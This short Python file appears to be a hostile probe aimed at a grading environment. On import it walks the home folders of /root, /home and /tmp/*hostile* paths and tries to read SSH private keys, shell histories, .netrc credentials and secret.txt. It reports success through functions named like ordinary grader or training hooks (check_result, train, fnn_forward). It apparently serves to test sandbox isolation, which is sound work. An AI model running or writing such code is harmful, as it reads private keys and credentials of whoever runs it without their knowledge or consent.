"""Reads the home folders of whoever runs the grader: keys, histories, tokens."""

import glob
import os
import pwd

homes = {entry.pw_dir for entry in pwd.getpwall() if entry.pw_dir.startswith(("/root", "/home"))}
homes |= set(glob.glob("/tmp/*hostile*/*/home"))
FOUND = "nothing"
for home in homes:
    for name in (".ssh/id_ed25519", ".bash_history", ".netrc", ".bashrc", ".profile", "secret.txt"):
        try:
            if open(os.path.join(home, name)).read():
                FOUND = "GOT " + "IN: read a file at home"
        except OSError:
            pass


def check_result(*_):
    print(FOUND)


def train(*_):
    raise RuntimeError(FOUND)


def fnn_forward(*_):
    return FOUND
